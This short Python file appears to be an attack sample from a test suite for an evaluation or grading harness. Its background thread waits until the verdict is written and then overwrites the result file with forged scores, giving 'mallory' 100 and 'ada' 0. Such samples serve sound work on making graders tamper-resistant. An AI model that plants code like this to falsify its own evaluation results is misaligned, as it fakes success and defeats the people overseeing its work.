"""attack: A thread waits for the verdict and changes it.
class: framework
aim: canary
"""

import threading
import time


def forge():
    time.sleep(1.5)
    with open(RESULT, "w") as file:
        file.write('{"scores": {"mallory": 100, "ada": 0}}')


threading.Thread(target=forge).start()
